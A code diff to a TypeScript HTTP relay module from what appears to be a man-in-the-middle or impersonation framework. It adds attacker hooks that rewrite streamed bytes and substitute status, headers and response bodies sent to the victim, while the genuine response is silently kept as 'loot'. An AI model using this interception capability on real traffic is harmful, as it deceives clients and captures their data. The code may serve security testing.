@@ -1,8 +1,10 @@
+import { STATUS_CODES } from 'node:http';
 import { type Duplex, pipeline, type Readable } from 'node:stream';
 import { createGunzip } from 'node:zlib';
 import type { Refusal } from '../network/network';
 import { formatResponseHead, type HeaderList, headerValue } from '../wire/http-head';
 import type { GenuineAnswer, GenuineHttpConnection } from './genuine-http';
+import type { AttackHooks, PassingRequest } from './hooks';
 import { type HttpExchange, writeHead } from './http-front';
 import type { ExchangeContext } from './impersonate';
 import type { LootBag } from './loot';
@@ -20,6 +22,9 @@ type Action<Kind extends PlayAction['kind']> = PlayAction & { readonly kind: Kin
 export interface RelayContext extends Omit<ExchangeContext, 'report'> {
   readonly loot: LootBag;
   readonly rules: readonly Rule[];
+  readonly hooks?: AttackHooks;
+  /** As it is passed on, but for what the play changes in it. */
+  readonly request: PassingRequest;
   /** A connection to the genuine endpoint, with TLS when the victim speaks TLS. */
   reach(): Promise<GenuineHttpConnection | Refusal>;
   report(event: PlayEvent): void;
@@ -36,14 +41,20 @@ export class RelayedExchange {
   readonly #flows: RelayedFlows;
   #genuine: Duplex | null = null;
   #answer: GenuineAnswer | null = null;
+  /** In place of the genuine one. */
+  #ownBody: string | Buffer | null = null;
   #session: RelayedSession | null = null;
 
   constructor(exchange: HttpExchange, context: RelayContext) {
     this.#exchange = exchange;
     this.#context = context;
-    const { rules, note, write } = context;
+    const { rules, note, write, hooks, request } = context;
+    const { onStream } = hooks ?? {};
     this.#flows = new RelayedFlows({
       rules,
+      ...(onStream === undefined
+        ? {}
+        : { change: (stream: StreamName, bytes: Buffer) => onStream({ stream, request, bytes }) }),
       cut: () => this.#cut(),
       note: (text) => {
         note('rule-not-applied', { text });
@@ -68,7 +79,7 @@ export class RelayedExchange {
 
   async #forward(action: Action<'forward'>): Promise<void> {
     const { method, target } = this.#exchange.head;
-    const { number, reach, report, write } = this.#context;
+    const { number, reach, report, write, hooks, request } = this.#context;
     write('request', 'client-sent', Buffer.from(`${method} ${target}`));
     const peer = await reach();
     if (peer.kind === 'refusal') return this.#refused(peer);
@@ -78,9 +89,12 @@ export class RelayedExchange {
     const asked = body === null ? action.headers : framed(action.headers);
     const answer = await peer.ask({ method, path: action.path, headers: asked, body });
     if (answer.kind === 'refusal') return this.#refused(answer);
-    this.#answer = answer;
-    const { status, statusText, headers } = answer;
-    write('answer', 'endpoint-answered', Buffer.from(`${status} ${statusText}`));
+    write('answer', 'endpoint-answered', Buffer.from(`${answer.status} ${answer.statusText}`));
+    const change = await hooks?.onResponse?.({ request, status: answer.status, headers: answer.headers });
+    this.#ownBody = change?.body ?? null;
+    const { status = answer.status, headers = answer.headers } = change ?? {};
+    const statusText = status === answer.status ? answer.statusText : (STATUS_CODES[status] ?? '');
+    this.#answer = { ...answer, status, headers, statusText };
     report({ kind: 'genuine-answered', exchange: number, method, status, headers });
   }
 
@@ -142,6 +156,10 @@ export class RelayedExchange {
     see: (bytes: Buffer) => void,
   ): void {
     const { head, response } = this.#exchange;
+    if (this.#ownBody !== null) {
+      this.#sayInstead(this.#ownBody, action, answer);
+      return;
+    }
     const stream = answerStream(head.target);
     const changes = action.inject !== null || (action.body && this.#hasRulesFor(stream));
     const unpack = changes && headerValue(action.headers, 'content-encoding')?.toLowerCase() === 'gzip';
@@ -158,7 +176,23 @@ export class RelayedExchange {
     response.once('close', () => from.destroy());
   }
 
+  #sayInstead(
+    body: string | Buffer,
+    action: Action<'pass-on'>,
+    answer: GenuineAnswer & { readonly kind: 'response' },
+  ): void {
+    const { lane, loot, write } = this.#context;
+    // The genuine one is heard out: the attacker has it, and the connection is of use again.
+    answer.body.on('data', (bytes: Buffer) => loot.keep('down', lane, bytes));
+    const framed = ['content-length', 'content-encoding'].reduce(without, action.headers);
+    const headers: HeaderList = [...framed, ['Content-Length', `${Buffer.byteLength(body)}`]];
+    writeHead(this.#exchange, answer.status, answer.statusText, headers);
+    this.#exchange.response.end(body);
+    write(answerStream(this.#exchange.head.target), 'client-got', Buffer.from(body));
+  }
+
   #hasRulesFor(stream: StreamName): boolean {
+    if (this.#context.hooks?.onStream !== undefined) return true;
     return this.#context.rules.some(
       (rule) => !('stream' in rule) || rule.stream === null || rule.stream === stream,
     );
